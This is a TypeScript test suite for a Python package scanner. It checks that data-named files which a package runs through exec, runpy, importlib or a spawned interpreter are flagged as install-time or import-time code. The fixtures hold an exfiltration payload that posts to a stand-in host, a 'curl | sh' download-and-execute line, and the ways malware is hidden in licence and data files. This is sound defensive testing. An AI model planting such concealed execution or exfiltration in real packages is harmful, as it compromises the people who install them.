// Code a package runs from a member that is not named like Python (exec(open("LICENSE.txt").read()), runpy,
// importlib loaders, a Python interpreter started on it) is analysed as Python, with the trigger of the code that runs it.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { TargetReport } from '../../src/model/result.ts';
import { scanJson } from './run-cli.ts';

const PAYLOAD = 'import requests\nrequests.post("https://collector.example/in", data=b"x")\n';
let dir: string;

async function scanPackage(name: string, files: Record<string, string>): Promise<TargetReport> {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, path, '..'), { recursive: true });
    writeFileSync(join(dir, name, path), content);
  }
  const { result } = await scanJson(name, dir);
  return result.targets[0];
}

const callIn = (target: TargetReport, path: string) =>
  target.files.find((file) => file.path === path)?.findings.find((f) => f.rule === 'egress-network-call');

describe('members run as Python whatever their name', () => {
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'pyguard-exec-member-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('setup.py exec(open("LICENSE.txt").read()): the licence file is analysed as install-time code', async () => {
    const target = await scanPackage('license', {
      'setup.py': 'from setuptools import setup\nexec(open("LICENSE.txt").read())\nsetup(name="x")\n',
      'LICENSE.txt': PAYLOAD,
    });
    const run = target.files
      .find((file) => file.path === 'setup.py')
      ?.findings.find((f) => f.rule === 'file-executed-as-code');
    assert.equal(run?.path, 'LICENSE.txt');
    assert.equal(run?.trigger, 'install');
    const call = callIn(target, 'LICENSE.txt');
    assert.equal(call?.destination?.host, 'collector.example');
    assert.equal(call?.trigger, 'install');
    assert.equal(target.files.find((file) => file.path === 'LICENSE.txt')?.kind, 'python');
  });

  test('through a name, a path built from __file__, compile(), runpy, importlib loaders and package resources', async () => {
    const module = [
      'import os, runpy, importlib.util',
      'HERE = os.path.dirname(__file__)',
      'f = open(os.path.join(HERE, "notes.dat"))',
      'exec(compile(f.read(), "notes", "exec"))',
      'runpy.run_path(os.path.join(HERE, "data", "run.cfg"))',
      'spec = importlib.util.spec_from_file_location("m", HERE + "/assets/loader.bin")',
      'import pkgutil, importlib.resources',
      'exec(pkgutil.get_data(__name__, "blob.txt"))',
      'exec(importlib.resources.files(__name__).joinpath("more.txt").read_text())',
      '',
    ].join('\n');
    const target = await scanPackage('module', {
      'pkg/__init__.py': module,
      'pkg/notes.dat': PAYLOAD,
      'pkg/data/run.cfg': PAYLOAD,
      'pkg/assets/loader.bin': PAYLOAD,
      'pkg/blob.txt': PAYLOAD,
      'pkg/more.txt': PAYLOAD,
    });
    for (const path of ['pkg/notes.dat', 'pkg/data/run.cfg', 'pkg/assets/loader.bin', 'pkg/blob.txt', 'pkg/more.txt']) {
      assert.equal(callIn(target, path)?.trigger, 'import', path);
    }
  });

  test('a resource path joined with "/" and a Python interpreter started on a data file run it as Python', async () => {
    const module = [
      'import importlib.resources, os, subprocess, sys',
      'exec((importlib.resources.files(__package__) / "data" / "joined.dat").read_text())',
      'subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "helper.bin")])',
      'def later():',
      '    subprocess.run(["python3", os.path.join(os.path.dirname(__file__), "task.cfg")])',
      '',
    ].join('\n');
    const target = await scanPackage('interpreter', {
      'pkg/__init__.py': module,
      'pkg/data/joined.dat': PAYLOAD,
      'pkg/helper.bin': PAYLOAD,
      'pkg/task.cfg': PAYLOAD,
    });
    assert.equal(callIn(target, 'pkg/data/joined.dat')?.trigger, 'import');
    assert.equal(callIn(target, 'pkg/helper.bin')?.trigger, 'import');
    // run when called, it is still read as Python (as a module: its top level counts as import, the safer side)
    assert.ok(callIn(target, 'pkg/task.cfg'));
  });

  test('reading a data file without running it is not reported', async () => {
    const target = await scanPackage('reads', {
      'pkg/__init__.py': 'DATA = open("pkg/table.txt").read()\n',
      'pkg/table.txt': PAYLOAD,
    });
    assert.deepEqual(
      target.files.flatMap((file) => file.findings.map((f) => f.rule)),
      [],
    );
  });

  test('a Python started on a member by code run on import runs it as __main__: its guarded block runs on import', async () => {
    const guarded = `import requests\nif __name__ == "__main__":\n    requests.post("https://collector.example/in", data=b"x")\n`;
    const target = await scanPackage('runs-helper', {
      'pkg/__init__.py':
        'import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "helper.py")])\n',
      'pkg/helper.py': guarded,
      'pkg/tool.py': guarded,
    });
    assert.equal(callIn(target, 'pkg/helper.py')?.trigger, 'import');
    assert.equal(callIn(target, 'pkg/tool.py')?.trigger, 'call', 'a module nobody runs keeps its guard');
  });

  test('python -c given the contents of a member runs that member as Python', async () => {
    const target = await scanPackage('inline-member', {
      'setup.py':
        'import subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, "-c", open("payload.txt").read()])\nsetup(name="x")\n',
      'payload.txt': PAYLOAD,
    });
    assert.equal(callIn(target, 'payload.txt')?.trigger, 'install');
  });

  test('os.system given the contents of a member runs its lines as command lines, analysed as such', async () => {
    const target = await scanPackage('command-member', {
      'setup.py': 'import os\nfrom setuptools import setup\nos.system(open("cmd.txt").read())\nsetup(name="x")\n',
      'cmd.txt': 'curl -s https://files.example/a | sh\n',
    });
    const run = target.files
      .find((file) => file.path === 'cmd.txt')
      ?.findings.find((f) => f.rule === 'download-execute');
    assert.equal(run?.severity, 'critical');
    assert.equal(run?.trigger, 'install');
  });
});
